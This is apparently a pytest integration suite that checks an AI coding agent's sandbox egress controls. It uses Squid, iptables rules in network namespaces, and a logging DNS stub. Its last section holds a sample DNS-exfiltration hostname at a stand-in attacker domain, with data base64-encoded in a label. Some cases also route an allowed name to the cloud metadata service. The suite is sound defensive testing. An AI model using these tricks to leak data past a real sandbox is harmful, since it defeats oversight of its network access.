"""Egress allowlist, proved the way a reviewer would: in two network namespaces this test makes itself.
"host" runs the real Squid with the rendered squid.conf and the rendered firewall rules of the agent's
network (the ExecStart lines of opencode-egress.service, run as they are); "agent" is joined to it the way
Docker's internal network joins the container (a link to the host's `oc-agent` at 192.168.254.1, no
route out). Test servers on addresses of the host namespace's loopback stand for the world;
names reach them through the proxy's own hosts file. Needs root, ip, iptables, squid and curl."""
from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from opencode_alicloud.instance.files import agent_firewall, render_squid_conf
from opencode_alicloud.instance.inputs import BootstrapSettings
from opencode_alicloud.instance.layout import AGENT_ADDRESS, AGENT_BRIDGE, AGENT_GATEWAY, PROXY_PORT
from opencode_settings import load_settings
from conftest import rendered_bootstrap  # noqa: F401  (the session's settings environment)

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or not all(shutil.which(tool) for tool in ("ip", "iptables", "squid", "curl")),
    reason="needs root, ip, iptables, squid and curl (scripts/install-test-tools installs them)",
)

ALLOWED, DENIED, SNEAKY = "allowed.example.org", "denied.example.org", "sneaky.example.org"
WORLD, OTHER, METADATA = "198.51.100.10", "198.51.100.20", "100.100.100.200"
SETTINGS = {"egress": {"mode": "allowlist", "allow": [ALLOWED, SNEAKY]}, "model_server": {"enabled": True}}


def sh(*args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    return subprocess.run(list(args), capture_output=True, text=True, timeout=60, check=check)


def agent_network(host: str, agent: str, tag: str) -> tuple[tuple[str, ...], tuple[str, ...]]:
    """Two namespaces joined as Docker's internal network joins the container: the host's end `oc-agent` at
    the gateway address, the agent's at its address, no route out. Returns the commands that run in each."""
    sh("ip", "netns", "add", host)
    sh("ip", "netns", "add", agent)
    sh("ip", "link", "add", f"ocv{tag}", "type", "veth", "peer", "name", f"oca{tag}")
    sh("ip", "link", "set", f"ocv{tag}", "netns", host)
    sh("ip", "link", "set", f"oca{tag}", "netns", agent)
    inh, ina = ("ip", "netns", "exec", host), ("ip", "netns", "exec", agent)
    sh(*inh, "ip", "link", "set", f"ocv{tag}", "name", AGENT_BRIDGE)
    sh(*inh, "ip", "addr", "add", f"{AGENT_GATEWAY}/24", "dev", AGENT_BRIDGE)
    sh(*ina, "ip", "addr", "add", f"{AGENT_ADDRESS}/24", "dev", f"oca{tag}")
    for ns, link in ((inh, AGENT_BRIDGE), (ina, f"oca{tag}")):
        sh(*ns, "ip", "link", "set", "lo", "up")
        sh(*ns, "ip", "link", "set", link, "up")
    return inh, ina


def start_squid(inh: tuple[str, ...], conf: Path, processes: list[subprocess.Popen[bytes]]) -> None:
    """The real Squid with `conf` in the host namespace, waited for until its port accepts."""
    processes.append(subprocess.Popen([*inh, "squid", "-N", "-f", str(conf)],
                                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    for _ in range(100):
        if sh(*inh, "sh", "-c", f"exec 3<>/dev/tcp/{AGENT_GATEWAY}/{PROXY_PORT}", check=False).returncode == 0:
            break
        time.sleep(0.2)


@pytest.fixture(scope="module")
def namespaces(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
    tag = str(os.getpid())
    host, agent = f"oc-host-{tag}", f"oc-agent-{tag}"
    processes: list[subprocess.Popen[bytes]] = []
    run: Path | None = None
    try:
        inh, _ = agent_network(host, agent, tag)
        # The world, the metadata service and the model server, on the host namespace's loopback.
        settings = load_settings(**SETTINGS)
        model_server = settings.model_server.address()
        for address in (WORLD, OTHER, METADATA, model_server):
            sh(*inh, "ip", "addr", "add", f"{address}/32", "dev", "lo")
        www = tmp_path_factory.mktemp("www")
        (www / "index.html").write_text("reached\n")
        for address, port in ((WORLD, 443), (WORLD, 22), (OTHER, 443), (METADATA, 443), (model_server, 8000),
                              (model_server, 8001), (AGENT_GATEWAY, 8080)):
            processes.append(subprocess.Popen([*inh, "python3", "-m", "http.server", "-b", address, str(port), "-d", str(www)],
                                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        # The real Squid with the rendered configuration (paths in this test's folder).
        run = Path(tempfile.mkdtemp(prefix="oc-squid-", dir="/tmp"))  # Squid drops to its own user: a folder it can reach
        run.chmod(0o777)
        (run / "hosts").write_text(f"{WORLD} {ALLOWED}\n{OTHER} {DENIED}\n{METADATA} {SNEAKY}\n")
        boot = BootstrapSettings.from_settings(settings)
        conf = render_squid_conf(boot, paths={"access_log": str(run / "access.log"), "cache_log": str(run / "cache.log"),
                                              "pid_file": str(run / "squid.pid"), "hosts_file": str(run / "hosts")})
        (run / "squid.conf").write_text(conf)
        parsed = sh("squid", "-k", "parse", "-f", str(run / "squid.conf"), check=False)
        assert parsed.returncode == 0, parsed.stderr
        start_squid(inh, run / "squid.conf", processes)
        before = curl(agent, f"http://{AGENT_GATEWAY}:8080/")
        sh(*inh, "iptables", "-w", "-N", "DOCKER-USER")  # Docker makes it; the unit inserts into it
        for command in agent_firewall():
            sh(*inh, *shlex.split(command.removeprefix("-")), check=not command.startswith("-"))
        yield {"host": host, "agent": agent, "log": str(run / "access.log"), "before": before, "model_server": model_server}
    finally:
        clean_up(processes, [host, agent], run)


def clean_up(processes: list[subprocess.Popen[bytes]], namespaces: list[str], folder: Path | None) -> None:
    """Stop the test's processes, delete its namespaces and its folder."""
    for process in processes:
        process.terminate()
    for process in processes:
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
    for namespace in namespaces:
        sh("ip", "netns", "del", namespace, check=False)
    if folder:
        shutil.rmtree(folder, ignore_errors=True)


def curl(agent: str, url: str, proxy: bool = False, tunnel: bool = False) -> str:
    """What the agent gets: the HTTP status, the proxy's answer to CONNECT, or curl's exit code."""
    args = ["ip", "netns", "exec", agent, "curl", "-s", "-o", "/dev/null", "-m", "10",
            "-w", "%{http_code} %{http_connect}"]
    if proxy:
        args += ["-x", f"http://{AGENT_GATEWAY}:{PROXY_PORT}"] + (["-p"] if tunnel else [])
    result = subprocess.run([*args, url], capture_output=True, text=True, timeout=60)
    code, connect = result.stdout.split() if result.stdout.strip() else ("000", "000")
    if tunnel:
        return f"connect {connect}" if connect != "200" else f"http {code}"
    return f"http {code}" if result.returncode == 0 else f"curl exit {result.returncode}"


def test_an_allowed_name_passes_through_the_proxy(namespaces: dict[str, str]) -> None:
    assert curl(namespaces["agent"], f"http://{ALLOWED}:443/", proxy=True, tunnel=True) == "http 200"


@pytest.mark.parametrize("url, why", [
    (f"http://{DENIED}:443/", "a name not on the list"),
    (f"http://{WORLD}:443/", "a raw IP address, even the allowed name's"),
    (f"http://{ALLOWED}:22/", "port 22 of an allowed name"),
    (f"http://{SNEAKY}:443/", "a listed name that resolves to the metadata service"),
])
def test_the_proxy_refuses(namespaces: dict[str, str], url: str, why: str) -> None:
    assert curl(namespaces["agent"], url, proxy=True, tunnel=True) == "connect 403", why


def test_plain_http_goes_only_to_the_private_model_server(namespaces: dict[str, str]) -> None:
    agent, model = namespaces["agent"], namespaces["model_server"]
    assert curl(agent, f"http://{model}:8000/", proxy=True) == "http 200"
    assert curl(agent, f"http://{model}:8001/", proxy=True) == "http 403"  # another port of it
    assert curl(agent, f"http://{ALLOWED}:443/", proxy=True) == "http 403"  # plain HTTP to an allowed name
    assert curl(agent, f"http://{model}:8000/", proxy=True, tunnel=True) == "connect 403"  # CONNECT to it


def test_the_agent_reaches_the_proxy_and_nothing_else(namespaces: dict[str, str]) -> None:
    agent = namespaces["agent"]
    # No route: the world, the metadata service and the model server directly.
    for url in (f"http://{WORLD}:443/", f"http://{METADATA}:443/", f"http://{namespaces['model_server']}:8000/"):
        assert curl(agent, url) == "curl exit 7", url
    # The host's own other services: reachable before the rendered firewall rules, refused after.
    assert namespaces["before"] == "http 200"
    assert curl(agent, f"http://{AGENT_GATEWAY}:8080/") == "curl exit 7"


def test_each_decision_is_in_the_access_log(namespaces: dict[str, str]) -> None:
    curl(namespaces["agent"], f"http://{ALLOWED}:443/", proxy=True, tunnel=True)
    curl(namespaces["agent"], f"http://{DENIED}:443/", proxy=True, tunnel=True)
    for _ in range(50):  # Squid writes the line when the connection ends
        log = Path(namespaces["log"]).read_text() if Path(namespaces["log"]).exists() else ""
        if "TCP_DENIED/403" in log and f"CONNECT {DENIED}:443" in log and f"CONNECT {ALLOWED}:443" in log:
            break
        time.sleep(0.2)
    lines = log.splitlines()
    assert any("TCP_TUNNEL/200" in line and f"CONNECT {ALLOWED}:443" in line for line in lines), log
    assert any("TCP_DENIED/403" in line and f"CONNECT {DENIED}:443" in line for line in lines), log
    assert all(AGENT_ADDRESS in line for line in lines)  # who asked


OPENCODE = Path(__file__).resolve().parents[2] / ".cache" / "tools" / "node_modules" / ".bin" / "opencode"


@pytest.mark.skipif(not OPENCODE.exists(), reason="the real OpenCode is not installed (scripts/install-test-tools)")
def test_none_mode_opencode_works_with_no_internet_and_reaches_the_model_only_through_the_proxy() -> None:
    """egress.mode = none, in a namespace with no route anywhere: the real OpenCode 1.18.33 with the rendered
    opencode.json and the compose file's environment starts (no npm, no models.dev) and its model request
    reaches the private model server through the real Squid with the rendered config, which logs it."""
    from conftest import rendered_bootstrap as rendered
    from opencode_alicloud.instance.layout import MANAGED_CONFIG

    boot, files, _ = rendered("egress-none")
    model_server = boot.model_server_url.split("//")[1].split(":")[0]
    environment = yaml.safe_load(files["/etc/opencode/compose.yaml"])["services"]["opencode"]["environment"]
    tag, run = f"oc-none-{os.getpid()}", Path(tempfile.mkdtemp(prefix="oc-none-", dir="/tmp"))
    run.chmod(0o777)
    inside = ("ip", "netns", "exec", tag)
    processes: list[subprocess.Popen[bytes]] = []
    try:
        sh("ip", "netns", "add", tag)
        sh(*inside, "ip", "link", "set", "lo", "up")
        for address in (model_server, AGENT_GATEWAY):  # the model server, and the host's end of the agent network
            sh(*inside, "ip", "addr", "add", f"{address}/32", "dev", "lo")
        (run / "asked").write_text("")
        model = run / "model.py"
        model.write_text(
            "import http.server, sys\n"
            "class H(http.server.BaseHTTPRequestHandler):\n"
            "    def do_POST(self):\n"
            "        open(sys.argv[2], 'a').write(self.path + '\\n')\n"
            "        self.send_response(500); self.end_headers()\n"
            "    def log_message(self, *a): pass\n"
            f"http.server.HTTPServer(('{model_server}', int(sys.argv[1])), H).serve_forever()\n")
        processes.append(subprocess.Popen([*inside, "python3", str(model), "8000", str(run / "asked")]))
        conf = render_squid_conf(boot, paths={"access_log": str(run / "access.log"), "cache_log": str(run / "cache.log"),
                                              "pid_file": str(run / "squid.pid"), "hosts_file": "/etc/hosts"})
        (run / "squid.conf").write_text(conf)
        processes.append(subprocess.Popen([*inside, "squid", "-N", "-f", str(run / "squid.conf")],
                                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        managed = run / "managed"
        managed.mkdir()
        (managed / "opencode.json").write_text(files[MANAGED_CONFIG])
        (run / "workspace").mkdir()
        env = {"PATH": os.environ["PATH"], "HOME": str(run / "home"), "OPENCODE_SERVER_PASSWORD": "pw",
               "OPENCODE_TEST_MANAGED_CONFIG_DIR": str(managed), "MODEL_SERVER_API_KEY": "k",
               **{key: str(value) for key, value in environment.items()}}
        server = subprocess.Popen([*inside, "env", *(f"{k}={v}" for k, v in env.items()), str(OPENCODE), "serve",
                                   "--hostname", "127.0.0.1", "--port", "4096"], cwd=run / "workspace",
                                  stdout=(run / "opencode.log").open("w"), stderr=subprocess.STDOUT)
        processes.append(server)
        ask = ("curl", "-s", "-m", "10", "-u", "opencode:pw", "-H", "Content-Type: application/json")
        for _ in range(120):
            if '"healthy":true' in sh(*inside, *ask, "http://127.0.0.1:4096/global/health", check=False).stdout:
                break
            time.sleep(1)
        else:
            pytest.fail("OpenCode did not become healthy with no network: " + (run / "opencode.log").read_text()[-2000:])
        session = json.loads(sh(*inside, *ask, "-d", "{}", "http://127.0.0.1:4096/session").stdout)["id"]
        sh(*inside, *ask, "-d", json.dumps({"parts": [{"type": "text", "text": "hi"}]}),
           f"http://127.0.0.1:4096/session/{session}/prompt_async")
        for _ in range(60):
            if (run / "asked").read_text():
                break
            time.sleep(1)
        assert (run / "asked").read_text().startswith("/v1/chat/completions"), (run / "opencode.log").read_text()[-2000:]
        log = (run / "access.log").read_text()
        assert f"POST http://{model_server}:8000/v1/chat/completions" in log, log
    finally:
        clean_up(processes, [tag], run)


# -- no name is resolved unless it is allowed (security review 2, #1) ---------------------------------------

DNS_SERVER = "10.53.0.1"
LISTED, UNLISTED = "listed.dns.example", "exfil-c29tZSBjb2Rl.attacker.example"


def dns_stub(address: str, log: Path, answers: dict[str, str]) -> str:
    """A DNS server (UDP 53) that writes every name it is asked for to `log`, and answers A queries for the
    names in `answers` (NXDOMAIN for others, no records for other types)."""
    return f'''
import socket, struct, sys
answers = {answers!r}
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind(({address!r}, 53))
while True:
    data, peer = sock.recvfrom(2048)
    labels, at = [], 12
    while data[at]:
        labels.append(data[at + 1:at + 1 + data[at]].decode()); at += 1 + data[at]
    name, qtype = ".".join(labels), struct.unpack(">H", data[at + 1:at + 3])[0]
    with open({str(log)!r}, "a") as out:
        out.write(name + "\\n")
    question = data[12:at + 5]
    if name in answers and qtype == 1:
        record = b"\\xc0\\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton(answers[name])
        sock.sendto(data[:2] + b"\\x81\\x80" + struct.pack(">HHHH", 1, 1, 0, 0) + question + record, peer)
    else:
        flags = b"\\x81\\x80" if name in answers else b"\\x81\\x83"
        sock.sendto(data[:2] + flags + struct.pack(">HHHH", 1, 0, 0, 0) + question, peer)
'''


@pytest.fixture(scope="module")
def resolver(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
    """The real Squid with the shipped configuration (allowlist mode, the model server on), its names resolved
    only by a DNS stub that logs each query; the agent in a namespace of its own, as above."""
    tag = f"d{os.getpid()}"
    host, agent = f"oc-dns-host-{tag}", f"oc-dns-agent-{tag}"
    processes: list[subprocess.Popen[bytes]] = []
    run = Path(tempfile.mkdtemp(prefix="oc-squid-dns-", dir="/tmp"))
    run.chmod(0o777)
    try:
        inh, _ = agent_network(host, agent, tag)
        settings = load_settings(egress={"mode": "allowlist", "allow": [LISTED]}, model_server={"enabled": True})
        for address in (WORLD, DNS_SERVER):
            sh(*inh, "ip", "addr", "add", f"{address}/32", "dev", "lo")
        www = tmp_path_factory.mktemp("www-dns")
        (www / "index.html").write_text("reached\n")
        processes.append(subprocess.Popen([*inh, "python3", "-m", "http.server", "-b", WORLD, "443", "-d", str(www)],
                                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        queries = run / "queries"
        queries.write_text("")
        (run / "dns.py").write_text(dns_stub(DNS_SERVER, queries, {LISTED: WORLD}))
        processes.append(subprocess.Popen([*inh, "python3", str(run / "dns.py")], stdout=subprocess.DEVNULL,
                                          stderr=(run / "dns.err").open("w")))
        (run / "hosts").write_text("")  # every name goes to DNS
        conf = render_squid_conf(BootstrapSettings.from_settings(settings), paths={
            "access_log": str(run / "access.log"), "cache_log": str(run / "cache.log"),
            "pid_file": str(run / "squid.pid"), "hosts_file": str(run / "hosts")})
        # The test's only addition: where Squid asks (the instance's resolver on ECS).
        (run / "squid.conf").write_text(conf + f"dns_nameservers {DNS_SERVER}\n")
        start_squid(inh, run / "squid.conf", processes)
        yield {"agent": agent, "queries": str(queries)}
    finally:
        clean_up(processes, [host, agent], run)


def asked(resolver: dict[str, str]) -> list[str]:
    """The names the resolver was asked for, lower-case (DNS names are case-insensitive; Squid lowers them)."""
    return Path(resolver["queries"]).read_text().lower().split()


def test_an_allowed_name_is_resolved_and_reached(resolver: dict[str, str]) -> None:
    """The positive control: the stub sees the allowed name's query, and the agent reaches it."""
    assert curl(resolver["agent"], f"http://{LISTED}:443/", proxy=True, tunnel=True) == "http 200"
    assert LISTED.lower() in asked(resolver)


@pytest.mark.parametrize("n, port, tunnel, why", [
    (1, 443, True, "CONNECT to a name not on the list"),
    (2, 22, True, "CONNECT to another port"),
    (3, 80, False, "plain HTTP"),
    (4, 8000, False, "plain HTTP to the model server's port"),
])
def test_a_refused_name_is_never_resolved(resolver: dict[str, str], n: int, port: int, tunnel: bool, why: str) -> None:
    """egress must not leak through DNS: a name the proxy refuses is never sent to the resolver, or the name
    itself (here base64 in a label) would carry data out though the request is refused."""
    name = f"{n}-{UNLISTED}"  # one name per case: the resolver's log is the module's
    answer = curl(resolver["agent"], f"http://{name}:{port}/", proxy=True, tunnel=tunnel)
    assert answer in ("connect 403", "http 403"), (why, answer)
    time.sleep(0.5)
    assert name.lower() not in asked(resolver), why
